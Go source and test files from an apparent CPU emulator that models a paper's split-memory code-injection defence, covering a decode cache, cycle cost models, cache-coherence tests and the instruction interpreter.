		if r != want || fl.ZF != (want == 0) || fl.SF != (int32(want) < 0) ||
			fl.CF != (a < b) ||
			fl.OF != ((a^b)&(a^want)&0x80000000 != 0) {
			return false
		}
		// xor / and / or clear CF and OF
		r, fl = run(isa.OpXor, a, b)
		if r != a^b || fl.CF || fl.OF || fl.ZF != (a^b == 0) {
			return false
		}
		r, fl = run(isa.OpAnd, a, b)
		if r != a&b || fl.CF || fl.OF {
			return false
		}
		r, _ = run(isa.OpMul, a, b)
		if r != a*b {
			return false
		}
		if b != 0 {
			r, _ = run(isa.OpDiv, a, b)
			if r != a/b {
				return false
			}
			r, _ = run(isa.OpMod, a, b)
			if r != a%b {
				return false
			}
		}
		return true
	}
	cfg := &quick.Config{MaxCount: 200, Rand: rand.New(rand.NewSource(123))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}
