package cpu

import (
	"splitmem/internal/isa"
	"splitmem/internal/mem"
)

// The predecoded-instruction cache ("decode cache") is the machine's host-
// side fast path: instead of re-reading and re-decoding the bytes at EIP on
// every retire, decoded instructions are cached per PHYSICAL code frame and
// replayed on later fetches of the same physical address.
//
// The cache is a pure host optimization and must be architecturally
// invisible: every fetch still performs the full Translate (so ITLB
// hits/misses, pagetable walks, permission faults, and the split engine's
// detection points are reproduced bit-for-bit), and a cached entry is only
// used when both of its coherence stamps are current:
//
//   - the frame's write generation (mem.Physical.Gen): bumped by every
//     store, frame hand-out, frame copy, allocation and chaos bit flip that
//     can change the frame's bytes — self-modifying and injected code
//     invalidate themselves;
//   - the machine's decode epoch: bumped on every TLB flush and invlpg
//     shootdown, and by the split engine at each PTE re-restriction (via
//     DropDecodeFrame), mirroring the conservative coherence points the
//     paper's trap algorithms rely on.
//
// Instructions that cross a frame boundary are never cached: their slow-path
// fetch translates (and may fault on, and fills the ITLB for) the second
// page, and replaying them would skip those architectural side effects.
//
// The differential-execution oracle (oracle_test.go) proves the fast path
// retires the identical architectural stream as the slow path across every
// workload and every attack form.

// decFrame caches the decode results of one physical frame. size[off] is
// the encoded length of the instruction decoded at byte offset off, or 0
// when that offset has not been (successfully) decoded since the last
// invalidation.
type decFrame struct {
	wgen uint64 // mem.Physical.Gen at fill time
	egen uint64 // Machine.decEpoch at fill time
	size [mem.PageSize]uint8
	ins  [mem.PageSize]isa.Instr
}

// reset clears the frame's entries and restamps it.
func (d *decFrame) reset(wgen, egen uint64) {
	clear(d.size[:])
	d.wgen, d.egen = wgen, egen
}

// decodeLookup returns the cached decoding of the instruction at physical
// address pa, if the cache holds a current one.
func (m *Machine) decodeLookup(pa uint32) (isa.Instr, bool) {
	f := pa >> mem.PageShift
	if int(f) >= len(m.dec) {
		return isa.Instr{}, false
	}
	df := m.dec[f]
	if df == nil || df.wgen != m.Phys.Gen(f) || df.egen != m.decEpoch {
		return isa.Instr{}, false
	}
	off := pa & mem.PageMask
	if df.size[off] == 0 {
		return isa.Instr{}, false
	}
	return df.ins[off], true
}

// decodeFill caches a successfully decoded instruction at physical address
// pa. Frame-crossing instructions are rejected (see the package comment).
func (m *Machine) decodeFill(pa uint32, in isa.Instr) {
	if m.dec == nil {
		m.dec = make([]*decFrame, m.Phys.NumFrames())
	}
	f := pa >> mem.PageShift
	if int(f) >= len(m.dec) {
		return
	}
	off := pa & mem.PageMask
	if off+uint32(in.Size) > mem.PageSize {
		return
	}
	wgen := m.Phys.Gen(f)
	df := m.dec[f]
	switch {
	case df == nil:
		df = &decFrame{}
		df.reset(wgen, m.decEpoch)
		m.dec[f] = df
	case df.wgen != wgen || df.egen != m.decEpoch:
		df.reset(wgen, m.decEpoch)
		m.Stats.DecodeInvalidations++
	}
	df.size[off] = uint8(in.Size)
	df.ins[off] = in
}

// DropDecodeFrame discards any cached decodings — and compiled superblocks —
// of physical frame f. The split engine calls it at every PTE re-restriction
// so the fast paths can never outlive the trap points Algorithms 1-2 depend
// on; it is also the hook for any future path that changes what a frame
// means without writing to it. No-op when both fast paths are disabled.
func (m *Machine) DropDecodeFrame(f uint32) {
	if int(f) < len(m.dec) && m.dec[f] != nil {
		m.dec[f] = nil
		m.Stats.DecodeInvalidations++
	}
	if int(f) < len(m.sb) && m.sb[f] != nil {
		if m.sb[f].nblocks > 0 {
			m.Stats.SuperblockInvalidations++
		}
		m.sb[f] = nil
	}
}

// InvalidateDecode discards the entire decode cache and every compiled
// superblock by advancing the shared decode epoch. Called on TLB flushes and
// invlpg shootdowns; cheap (the per-frame state is lazily restamped on its
// next fetch).
func (m *Machine) InvalidateDecode() {
	if !m.decOn && !m.sbOn {
		return
	}
	m.decEpoch++
}
