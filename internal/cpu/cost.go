package cpu

// CostModel assigns simulated cycle costs to architectural events. The
// defaults are calibrated so that the relative overheads of the split-memory
// technique match the shape reported in the paper's evaluation on a
// Pentium III 600 MHz (Figs. 6-9): cheap TLB hits, moderately expensive
// hardware walks, expensive trap-mediated TLB reloads, and very expensive
// context switches (which flush both TLBs and force the working set to be
// re-split page by page).
type CostModel struct {
	Instr      uint64 // base cost of executing one instruction
	MemAccess  uint64 // one data memory access (TLB hit)
	TLBWalk    uint64 // hardware pagetable walk on a TLB miss
	Trap       uint64 // hardware exception entry + exit (ring transition)
	PFBase     uint64 // software page-fault handler bookkeeping
	DebugTrap  uint64 // debug (single-step) interrupt entry + handler + exit
	Syscall    uint64 // syscall gate + kernel dispatch
	CtxSwitch  uint64 // scheduler context switch (excludes consequent TLB refills)
	IOByte     uint64 // per-byte device/NIC transfer cost on read/write syscalls
	DemandFill uint64 // zero-fill or file-read for a demand-paged frame
	COWCopy    uint64 // frame copy for a copy-on-write break
}

// PentiumIII600 is the default cost model, loosely calibrated against the
// paper's testbed (PIII 600 MHz, 384 MB RAM, 100 Mbit NIC).
func PentiumIII600() CostModel {
	return CostModel{
		Instr:      1,
		MemAccess:  1,
		TLBWalk:    25,
		Trap:       400,
		PFBase:     600,
		DebugTrap:  500,
		Syscall:    300,
		CtxSwitch:  1500,
		IOByte:     2,
		DemandFill: 800,
		COWCopy:    1200,
	}
}

// ModernQuadCore approximates the 2.4 GHz quad-core machine the paper used
// for the fractional-splitting experiment (Fig. 9): traps are relatively
// cheaper than on the PIII.
func ModernQuadCore() CostModel {
	return CostModel{
		Instr:      1,
		MemAccess:  1,
		TLBWalk:    20,
		Trap:       250,
		PFBase:     350,
		DebugTrap:  300,
		Syscall:    150,
		CtxSwitch:  1000,
		IOByte:     1,
		DemandFill: 500,
		COWCopy:    700,
	}
}
