package cpu

import (
	"testing"

	"splitmem/internal/isa"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
)

// newCachedMachine is newTestMachine with the predecode fast path enabled.
func newCachedMachine(t *testing.T, code []byte) (*Machine, *testHandler) {
	t.Helper()
	return newTestMachineCfg(t, Config{PhysBytes: 1 << 20, DecodeCache: true}, code)
}

// rerun points EIP back at codeBase and executes n instructions.
func rerun(t *testing.T, m *Machine, n int) {
	t.Helper()
	m.Ctx.EIP = codeBase
	stepN(t, m, n)
}

func TestDecodeCacheHitsOnReplay(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 7},
		{Op: isa.OpAddImm, R1: isa.EAX, Imm: 1},
		{Op: isa.OpNop},
	}
	m, _ := newCachedMachine(t, asmBytes(ins...))
	stepN(t, m, 3)
	if m.Stats.DecodeHits != 0 {
		t.Fatalf("cold run should not hit, got %d", m.Stats.DecodeHits)
	}
	if m.Stats.DecodeMisses != 3 {
		t.Fatalf("cold run misses=%d want 3", m.Stats.DecodeMisses)
	}
	rerun(t, m, 3)
	if m.Stats.DecodeHits != 3 {
		t.Fatalf("warm run hits=%d want 3", m.Stats.DecodeHits)
	}
	if m.Stats.DecodeMisses != 3 {
		t.Fatalf("warm run should add no misses, got %d", m.Stats.DecodeMisses)
	}
	if m.Ctx.R[isa.EAX] != 8 {
		t.Fatalf("eax=%d", m.Ctx.R[isa.EAX])
	}
}

// TestDecodeCacheDisabledByDefault: without Config.DecodeCache the fast path
// must stay entirely out of the fetch loop.
func TestDecodeCacheDisabledByDefault(t *testing.T) {
	m, _ := newTestMachine(t, asmBytes(isa.Instr{Op: isa.OpNop}, isa.Instr{Op: isa.OpNop}))
	stepN(t, m, 2)
	rerun(t, m, 2)
	if m.Stats.DecodeHits != 0 || m.Stats.DecodeMisses != 0 {
		t.Fatalf("disabled cache counted hits=%d misses=%d",
			m.Stats.DecodeHits, m.Stats.DecodeMisses)
	}
}

// TestDecodeCacheSelfModifyingStore: a guest store into its own (writable)
// code page must invalidate the cached decoding so the new instruction — not
// the stale one — executes.
func TestDecodeCacheSelfModifyingStore(t *testing.T) {
	// The program runs from the writable data page so it can store over
	// itself. Layout: patcher first, victim instruction after it.
	patch := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: 0}, // patched below: address of victim
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0}, // patched below: new first byte
		{Op: isa.OpStoreB, R1: isa.EBX, R2: isa.EAX},
	}
	victim := isa.Instr{Op: isa.OpMovImm, R1: isa.ECX, Imm: 5}
	code := asmBytes(patch...)
	victimOff := uint32(len(code))
	code = isa.Encode(code, victim)

	m, _ := newCachedMachine(t, nil)
	pt := m.Pagetable()
	pt.Set(dataVPN, pt.Get(dataVPN).With(paging.User|paging.Writable))
	frame := pt.Get(dataVPN).Frame()
	copy(m.Phys.Frame(frame), code)

	// First pass: run the victim once so it is cached, with the store
	// skipped (store a byte identical to the current one).
	run := func(newOpByte byte) {
		fr := m.Phys.Frame(frame)
		full := asmBytes(patch...)
		copy(fr, full)
		// Patch the patcher's immediates in place: EBX = victim address,
		// EAX = byte to store.
		b := isa.Encode(nil, isa.Instr{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase + victimOff})
		copy(fr, b)
		b2 := isa.Encode(nil, isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: uint32(newOpByte)})
		copy(fr[len(b):], b2)
		m.Ctx.EIP = dataBase
		stepN(t, m, 4) // patcher (3) + victim (1)
	}

	movOp := asmBytes(victim)[0]
	run(movOp) // identity store: victim decodes as mov ecx, 5
	if m.Ctx.R[isa.ECX] != 5 {
		t.Fatalf("first pass ecx=%d", m.Ctx.R[isa.ECX])
	}
	// Second pass: the store rewrites the victim's opcode to nop. The write
	// generation bump must evict the cached mov so the nop executes.
	m.Ctx.R[isa.ECX] = 0
	nopOp := asmBytes(isa.Instr{Op: isa.OpNop})[0]
	run(nopOp)
	if m.Ctx.R[isa.ECX] != 0 {
		t.Fatalf("stale decode executed: ecx=%d want 0 (nop)", m.Ctx.R[isa.ECX])
	}
}

// TestDecodeCacheHostWriteInvalidates: rewriting code through the physical
// frame (how the kernel, loader, chaos injector and split engine write) must
// invalidate cached decodings.
func TestDecodeCacheHostWriteInvalidates(t *testing.T) {
	m, _ := newCachedMachine(t, asmBytes(isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: 7}))
	stepN(t, m, 1)
	if m.Ctx.R[isa.EAX] != 7 {
		t.Fatalf("eax=%d", m.Ctx.R[isa.EAX])
	}
	frame := m.Pagetable().Get(codeVPN).Frame()
	copy(m.Phys.Frame(frame), asmBytes(isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: 9}))
	rerun(t, m, 1)
	if m.Ctx.R[isa.EAX] != 9 {
		t.Fatalf("stale decode served after frame rewrite: eax=%d", m.Ctx.R[isa.EAX])
	}

	// SetByte must invalidate too.
	b := isa.Encode(nil, isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: 11})
	for i, v := range b {
		m.Phys.SetByte(frame<<mem.PageShift+uint32(i), v)
	}
	rerun(t, m, 1)
	if m.Ctx.R[isa.EAX] != 11 {
		t.Fatalf("stale decode served after SetByte: eax=%d", m.Ctx.R[isa.EAX])
	}
}

// TestDecodeCacheFlushEpoch: FlushTLBs and Invlpg advance the decode epoch,
// forcing refills on the next fetch.
func TestDecodeCacheFlushEpoch(t *testing.T) {
	m, _ := newCachedMachine(t, asmBytes(isa.Instr{Op: isa.OpNop}, isa.Instr{Op: isa.OpNop}))
	stepN(t, m, 2)
	rerun(t, m, 2)
	if m.Stats.DecodeHits != 2 {
		t.Fatalf("hits=%d want 2", m.Stats.DecodeHits)
	}

	m.FlushTLBs()
	rerun(t, m, 2)
	if m.Stats.DecodeHits != 2 {
		t.Fatalf("flush did not invalidate: hits=%d", m.Stats.DecodeHits)
	}
	if m.Stats.DecodeMisses != 4 {
		t.Fatalf("misses=%d want 4", m.Stats.DecodeMisses)
	}
	if m.Stats.DecodeInvalidations == 0 {
		t.Fatal("refill after flush should count an invalidation")
	}

	m.Invlpg(codeBase)
	rerun(t, m, 2)
	if m.Stats.DecodeHits != 2 {
		t.Fatalf("invlpg did not invalidate: hits=%d", m.Stats.DecodeHits)
	}
}

// TestDecodeCacheDropFrame: the split engine's precise invalidation hook.
func TestDecodeCacheDropFrame(t *testing.T) {
	m, _ := newCachedMachine(t, asmBytes(isa.Instr{Op: isa.OpNop}))
	stepN(t, m, 1)
	frame := m.Pagetable().Get(codeVPN).Frame()
	inv0 := m.Stats.DecodeInvalidations
	m.DropDecodeFrame(frame)
	if m.Stats.DecodeInvalidations != inv0+1 {
		t.Fatalf("invalidations=%d want %d", m.Stats.DecodeInvalidations, inv0+1)
	}
	m.DropDecodeFrame(frame) // already empty: no double count
	if m.Stats.DecodeInvalidations != inv0+1 {
		t.Fatal("dropping an empty frame must not count")
	}
	rerun(t, m, 1)
	if m.Stats.DecodeHits != 0 {
		t.Fatalf("hit after drop: %d", m.Stats.DecodeHits)
	}
}

// TestDecodeCachePageCrossingNeverCached: a frame-crossing instruction's
// slow-path fetch translates the second page (ITLB fills, faults, split-
// engine traps); replaying it from the cache would skip those side effects,
// so it must never be cached.
func TestDecodeCachePageCrossingNeverCached(t *testing.T) {
	m, _ := newCachedMachine(t, nil)
	pt := m.Pagetable()
	f2, _ := m.Phys.Alloc()
	pt.Set(codeVPN+1, paging.Entry(0).WithFrame(f2).With(paging.Present|paging.User))
	code := asmBytes(isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0x12345678})
	start := uint32(mem.PageSize - 2) // 2 bytes on page 1, 3 on page 2
	f1 := pt.Get(codeVPN).Frame()
	copy(m.Phys.Frame(f1)[start:], code[:2])
	copy(m.Phys.Frame(f2), code[2:])
	for pass := 0; pass < 3; pass++ {
		m.Ctx.R[isa.EAX] = 0
		m.Ctx.EIP = codeBase + start
		stepN(t, m, 1)
		if m.Ctx.R[isa.EAX] != 0x12345678 {
			t.Fatalf("pass %d: eax=%#x", pass, m.Ctx.R[isa.EAX])
		}
	}
	if m.Stats.DecodeHits != 0 {
		t.Fatalf("crossing instruction served from cache %d times", m.Stats.DecodeHits)
	}
	if m.Stats.DecodeMisses != 3 {
		t.Fatalf("misses=%d want 3", m.Stats.DecodeMisses)
	}
}

// TestDecodeCacheArchitecturalInvisibility: the fast path must charge the
// identical simulated cycles and retire the identical state as the slow
// path — here over code that mixes TLB misses, loads, stores and jumps.
func TestDecodeCacheArchitecturalInvisibility(t *testing.T) {
	prog := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase},
		{Op: isa.OpMovImm, R1: isa.ECX, Imm: 50},
		// loop: eax += ecx; store eax; ecx--; jnz loop
		{Op: isa.OpAdd, R1: isa.EAX, R2: isa.ECX},
		{Op: isa.OpStore, R1: isa.EBX, R2: isa.EAX},
		{Op: isa.OpSubImm, R1: isa.ECX, Imm: 1},
		{Op: isa.OpJnz, Imm: 0}, // displacement patched below
	}
	// Compute the backward displacement: from the byte after jnz to the add.
	var off [7]uint32
	var b []byte
	for i, in := range prog {
		off[i] = uint32(len(b))
		b = isa.Encode(b, in)
	}
	off[6] = uint32(len(b))
	prog[5].Imm = off[2] - off[6] // negative, as uint32

	run := func(cached bool) (*Machine, int) {
		m, _ := newTestMachineCfg(t, Config{PhysBytes: 1 << 20, DecodeCache: cached}, asmBytes(prog...))
		steps := 0
		for m.Ctx.R[isa.ECX] != 1 || steps < 3 {
			stepN(t, m, 1)
			steps++
			if steps > 10000 {
				t.Fatal("runaway loop")
			}
		}
		return m, steps
	}
	fast, fsteps := run(true)
	slow, ssteps := run(false)
	if fsteps != ssteps {
		t.Fatalf("step counts diverge: %d vs %d", fsteps, ssteps)
	}
	if fast.Ctx != slow.Ctx {
		t.Fatalf("contexts diverge:\nfast %+v\nslow %+v", fast.Ctx, slow.Ctx)
	}
	if fast.Cycles != slow.Cycles {
		t.Fatalf("simulated cycles diverge: fast=%d slow=%d", fast.Cycles, slow.Cycles)
	}
	if fast.Stats.Instructions != slow.Stats.Instructions {
		t.Fatalf("retired counts diverge: %d vs %d",
			fast.Stats.Instructions, slow.Stats.Instructions)
	}
	fh, fm2, _, _ := fast.ITLB.Stats()
	sh, sm2, _, _ := slow.ITLB.Stats()
	if fh != sh || fm2 != sm2 {
		t.Fatalf("ITLB stats diverge: fast=%d/%d slow=%d/%d", fh, fm2, sh, sm2)
	}
	if fast.Stats.DecodeHits == 0 {
		t.Fatal("fast run never hit the cache — the test is vacuous")
	}
}
