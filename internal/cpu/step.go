package cpu

import (
	"splitmem/internal/isa"
	"splitmem/internal/mem"
)

// StepResult reports what a single instruction step did.
type StepResult int

// Step outcomes.
const (
	// StepOK means the instruction completed, or faulted and the handler
	// asked for a restart; the process remains runnable.
	StepOK StepResult = iota + 1
	// StepStopped means a trap handler returned ActStop: the process
	// exited, was killed, blocked, or was preempted by the kernel.
	StepStopped
)

// Step executes (or attempts) one instruction of the current context — or,
// when the fetch lands on a hot compiled superblock, a straight-line run of
// instructions with identical architectural effects (see superblock.go).
//
// Faulting instructions have no architectural side effects: the register
// file is restored to its pre-instruction state before the fault handler
// runs, so ActResume restarts the instruction cleanly — matching the
// restartable-instruction guarantee real x86 provides.
func (m *Machine) Step() StepResult {
	if m.Chaos != nil {
		m.Chaos.PreStep(m)
	}
	return m.stepRetire()
}

// stepRetire is Step without the chaos pre-step hook (which must run exactly
// once per retired instruction: the superblock engine re-invokes this after
// running the hook itself on an in-block stale bail-out).
func (m *Machine) stepRetire() StepResult {
	saved := m.Ctx
	pa, pf := m.Translate(m.Ctx.EIP, AccFetch)
	if pf != nil {
		return m.raisePF(pf)
	}
	if m.sbOn && !m.Ctx.Flags.TF {
		if res, entered := m.sbExec(pa); entered {
			return res
		}
	}
	return m.stepAt(pa, saved, m.Ctx.Flags.TF)
}

// stepAt interprets the single instruction whose first byte lives at
// physical address pa (the already-performed fetch translation of EIP).
func (m *Machine) stepAt(pa uint32, saved Context, tfAtStart bool) StepResult {
	in, pf, undef := m.fetchAt(pa)
	if pf != nil {
		m.Ctx = saved
		return m.raisePF(pf)
	}
	if undef {
		m.Ctx = saved
		m.Cycles += m.Cost.Trap
		m.Stats.Undefined++
		if m.handler.Undefined() == ActStop {
			return StepStopped
		}
		return StepOK
	}

	m.Cycles += m.Cost.Instr
	m.Stats.Instructions++
	if m.TraceHook != nil {
		m.TraceHook(m.Ctx.EIP, in)
	}

	act, pf := m.execute(in)
	if pf != nil {
		m.Ctx = saved
		return m.raisePF(pf)
	}
	if act == ActStop {
		return StepStopped
	}
	if tfAtStart {
		// Single-step trap fires after the instruction completes.
		if m.raiseDB() == ActStop {
			return StepStopped
		}
	} else if m.Chaos != nil && m.Chaos.SpuriousDebugTrap() {
		// Injected fault: a #DB the split engine never asked for. The
		// kernel must tolerate debug interrupts with no load in flight.
		if m.raiseDB() == ActStop {
			return StepStopped
		}
	}
	return StepOK
}

// raiseDB delivers a debug trap to the handler, charging the trap cost
// and recording the handler latency when telemetry is enabled.
func (m *Machine) raiseDB() Action {
	m.Cycles += m.Cost.DebugTrap
	m.Stats.DebugTraps++
	if m.Tel == nil {
		return m.handler.DebugTrap()
	}
	start := m.Cycles
	act := m.handler.DebugTrap()
	m.Tel.DBHandlerCycles.Observe(m.Cycles - start)
	return act
}

func (m *Machine) raisePF(pf *PageFault) StepResult {
	if m.deliverPF(pf) == ActStop {
		return StepStopped
	}
	if m.Chaos != nil && m.Chaos.DoubleFault() {
		// Injected fault: the same #PF is delivered a second time after the
		// handler already resolved it. Handlers must be idempotent (the
		// benign-refault path in the kernel absorbs the re-delivery).
		if m.deliverPF(pf) == ActStop {
			return StepStopped
		}
	}
	return StepOK
}

// deliverPF dispatches one page fault to the handler, charging the trap
// cost and recording the handler latency when telemetry is enabled.
func (m *Machine) deliverPF(pf *PageFault) Action {
	m.CR2 = pf.Addr
	m.Cycles += m.Cost.Trap
	m.Stats.PageFaults++
	if m.Tel == nil {
		return m.handler.PageFault(pf.Addr, pf.Code)
	}
	start := m.Cycles
	act := m.handler.PageFault(pf.Addr, pf.Code)
	m.Tel.PFHandlerCycles.Observe(m.Cycles - start)
	return act
}

// fetchAt reads and decodes the instruction at EIP, whose first byte the
// caller already translated to physical address pa. undef is true when the
// bytes do not form a defined instruction (#UD).
//
// The entry translation always runs in the caller — ITLB fills, walk costs,
// and fetch faults are architectural — but the byte reads and decode are
// skipped when the predecode cache holds a current entry for the physical
// address (see decode.go for the coherence rules).
func (m *Machine) fetchAt(pa uint32) (isa.Instr, *PageFault, bool) {
	var buf [isa.MaxInstrLen]byte
	var pf *PageFault
	if m.decOn {
		if in, ok := m.decodeLookup(pa); ok {
			m.Stats.DecodeHits++
			return in, nil, false
		}
	}
	pa0 := pa
	buf[0] = m.Phys.Byte(pa)
	n, ok := isa.EncLen(buf[0])
	if !ok {
		return isa.Instr{}, nil, true
	}
	for i := 1; i < n; i++ {
		a := m.Ctx.EIP + uint32(i)
		if a&mem.PageMask == 0 {
			// The instruction crosses into the next page.
			pa, pf = m.Translate(a, AccFetch)
			if pf != nil {
				return isa.Instr{}, pf, false
			}
		} else {
			pa++
		}
		buf[i] = m.Phys.Byte(pa)
	}
	in, err := isa.Decode(buf[:n])
	if err != nil {
		return isa.Instr{}, nil, true
	}
	if m.decOn {
		m.Stats.DecodeMisses++
		m.decodeFill(pa0, in)
	}
	return in, nil, false
}

// execute runs one decoded instruction. It returns a page fault if a data
// access faulted (with no side effects applied thanks to Step's snapshot),
// or the handler's action for trapping instructions.
func (m *Machine) execute(in isa.Instr) (Action, *PageFault) {
	c := &m.Ctx
	next := c.EIP + uint32(in.Size)

	switch in.Op {
	case isa.OpNop:
		// nothing
	case isa.OpMovImm:
		c.R[in.R1] = in.Imm
	case isa.OpMov:
		c.R[in.R1] = c.R[in.R2]
	case isa.OpLea:
		c.R[in.R1] = c.R[in.R2] + in.Imm

	case isa.OpAdd, isa.OpAddImm:
		c.R[in.R1] = m.addFlags(c.R[in.R1], m.src2(in))
	case isa.OpSub, isa.OpSubImm:
		c.R[in.R1] = m.subFlags(c.R[in.R1], m.src2(in))
	case isa.OpCmp, isa.OpCmpImm:
		m.subFlags(c.R[in.R1], m.src2(in))
	case isa.OpAnd, isa.OpAndImm:
		c.R[in.R1] = m.logicFlags(c.R[in.R1] & m.src2(in))
	case isa.OpOr, isa.OpOrImm:
		c.R[in.R1] = m.logicFlags(c.R[in.R1] | m.src2(in))
	case isa.OpXor, isa.OpXorImm:
		c.R[in.R1] = m.logicFlags(c.R[in.R1] ^ m.src2(in))
	case isa.OpMul, isa.OpMulImm:
		c.R[in.R1] = m.logicFlags(c.R[in.R1] * m.src2(in))
	case isa.OpDiv:
		if c.R[in.R2] == 0 {
			return m.divideError(), nil
		}
		c.R[in.R1] = m.logicFlags(c.R[in.R1] / c.R[in.R2])
	case isa.OpMod:
		if c.R[in.R2] == 0 {
			return m.divideError(), nil
		}
		c.R[in.R1] = m.logicFlags(c.R[in.R1] % c.R[in.R2])
	case isa.OpShl:
		c.R[in.R1] = m.logicFlags(c.R[in.R1] << (in.Imm & 31))
	case isa.OpShr:
		c.R[in.R1] = m.logicFlags(c.R[in.R1] >> (in.Imm & 31))

	case isa.OpLoad:
		v, pf := m.readU32(c.R[in.R2] + in.Imm)
		if pf != nil {
			return 0, pf
		}
		c.R[in.R1] = v
	case isa.OpLoadB:
		v, pf := m.readU8(c.R[in.R2] + in.Imm)
		if pf != nil {
			return 0, pf
		}
		c.R[in.R1] = uint32(v)
	case isa.OpStore:
		if pf := m.writeU32(c.R[in.R1]+in.Imm, c.R[in.R2]); pf != nil {
			return 0, pf
		}
	case isa.OpStoreB:
		if pf := m.writeU8(c.R[in.R1]+in.Imm, byte(c.R[in.R2])); pf != nil {
			return 0, pf
		}

	case isa.OpPush:
		if pf := m.push(c.R[in.R1]); pf != nil {
			return 0, pf
		}
	case isa.OpPop:
		v, pf := m.pop()
		if pf != nil {
			return 0, pf
		}
		c.R[in.R1] = v

	case isa.OpJmp:
		next += in.Imm
	case isa.OpJmpReg:
		next = c.R[in.R1]
	case isa.OpCall:
		if pf := m.push(next); pf != nil {
			return 0, pf
		}
		next += in.Imm
	case isa.OpCallReg:
		if pf := m.push(next); pf != nil {
			return 0, pf
		}
		next = c.R[in.R1]
	case isa.OpRet:
		v, pf := m.pop()
		if pf != nil {
			return 0, pf
		}
		next = v

	case isa.OpJz:
		next = m.cond(c.Flags.ZF, next, in)
	case isa.OpJnz:
		next = m.cond(!c.Flags.ZF, next, in)
	case isa.OpJl:
		next = m.cond(c.Flags.SF != c.Flags.OF, next, in)
	case isa.OpJge:
		next = m.cond(c.Flags.SF == c.Flags.OF, next, in)
	case isa.OpJg:
		next = m.cond(!c.Flags.ZF && c.Flags.SF == c.Flags.OF, next, in)
	case isa.OpJle:
		next = m.cond(c.Flags.ZF || c.Flags.SF != c.Flags.OF, next, in)
	case isa.OpJb:
		next = m.cond(c.Flags.CF, next, in)
	case isa.OpJae:
		next = m.cond(!c.Flags.CF, next, in)
	case isa.OpJa:
		next = m.cond(!c.Flags.CF && !c.Flags.ZF, next, in)
	case isa.OpJbe:
		next = m.cond(c.Flags.CF || c.Flags.ZF, next, in)

	case isa.OpInt:
		c.EIP = next
		m.Cycles += m.Cost.Syscall
		m.Stats.Interrupts++
		return m.handler.Interrupt(byte(in.Imm)), nil
	case isa.OpInt3:
		c.EIP = next
		m.Cycles += m.Cost.Trap
		return m.handler.Breakpoint(), nil
	case isa.OpHlt:
		// Privileged in user mode.
		m.Cycles += m.Cost.Trap
		return m.handler.GeneralProtection(), nil

	default:
		m.Cycles += m.Cost.Trap
		m.Stats.Undefined++
		return m.handler.Undefined(), nil
	}

	c.EIP = next
	return ActResume, nil
}

func (m *Machine) divideError() Action {
	m.Cycles += m.Cost.Trap
	return m.handler.DivideError()
}

func (m *Machine) src2(in isa.Instr) uint32 {
	switch in.Op {
	case isa.OpAddImm, isa.OpSubImm, isa.OpCmpImm, isa.OpAndImm,
		isa.OpOrImm, isa.OpXorImm, isa.OpMulImm:
		return in.Imm
	}
	return m.Ctx.R[in.R2]
}

func (m *Machine) cond(take bool, next uint32, in isa.Instr) uint32 {
	if take {
		return next + in.Imm
	}
	return next
}

func (m *Machine) addFlags(a, b uint32) uint32 {
	r := a + b
	f := &m.Ctx.Flags
	f.ZF = r == 0
	f.SF = int32(r) < 0
	f.CF = r < a
	f.OF = (a^r)&(b^r)&0x80000000 != 0
	return r
}

func (m *Machine) subFlags(a, b uint32) uint32 {
	r := a - b
	f := &m.Ctx.Flags
	f.ZF = r == 0
	f.SF = int32(r) < 0
	f.CF = a < b
	f.OF = (a^b)&(a^r)&0x80000000 != 0
	return r
}

func (m *Machine) logicFlags(r uint32) uint32 {
	f := &m.Ctx.Flags
	f.ZF = r == 0
	f.SF = int32(r) < 0
	f.CF = false
	f.OF = false
	return r
}

func (m *Machine) push(v uint32) *PageFault {
	sp := m.Ctx.R[isa.ESP] - 4
	if pf := m.writeU32(sp, v); pf != nil {
		return pf
	}
	m.Ctx.R[isa.ESP] = sp
	return nil
}

func (m *Machine) pop() (uint32, *PageFault) {
	v, pf := m.readU32(m.Ctx.R[isa.ESP])
	if pf != nil {
		return 0, pf
	}
	m.Ctx.R[isa.ESP] += 4
	return v, nil
}

func (m *Machine) readU8(addr uint32) (byte, *PageFault) {
	m.Cycles += m.Cost.MemAccess
	m.Stats.DataAccesses++
	pa, pf := m.Translate(addr, AccRead)
	if pf != nil {
		return 0, pf
	}
	return m.Phys.Byte(pa), nil
}

func (m *Machine) writeU8(addr uint32, v byte) *PageFault {
	m.Cycles += m.Cost.MemAccess
	m.Stats.DataAccesses++
	pa, pf := m.Translate(addr, AccWrite)
	if pf != nil {
		return pf
	}
	m.Phys.SetByte(pa, v)
	return nil
}

func (m *Machine) readU32(addr uint32) (uint32, *PageFault) {
	m.Cycles += m.Cost.MemAccess
	m.Stats.DataAccesses++
	if addr&mem.PageMask <= mem.PageSize-4 {
		pa, pf := m.Translate(addr, AccRead)
		if pf != nil {
			return 0, pf
		}
		return m.Phys.Read32(pa), nil
	}
	var v uint32
	for i := uint32(0); i < 4; i++ {
		pa, pf := m.Translate(addr+i, AccRead)
		if pf != nil {
			return 0, pf
		}
		v |= uint32(m.Phys.Byte(pa)) << (8 * i)
	}
	return v, nil
}

func (m *Machine) writeU32(addr uint32, v uint32) *PageFault {
	m.Cycles += m.Cost.MemAccess
	m.Stats.DataAccesses++
	if addr&mem.PageMask <= mem.PageSize-4 {
		pa, pf := m.Translate(addr, AccWrite)
		if pf != nil {
			return pf
		}
		m.Phys.Write32(pa, v)
		return nil
	}
	// Page-crossing store: translate both pages before writing anything so
	// a fault leaves memory untouched.
	var pas [4]uint32
	for i := uint32(0); i < 4; i++ {
		pa, pf := m.Translate(addr+i, AccWrite)
		if pf != nil {
			return pf
		}
		pas[i] = pa
	}
	for i := uint32(0); i < 4; i++ {
		m.Phys.SetByte(pas[i], byte(v>>(8*i)))
	}
	return nil
}
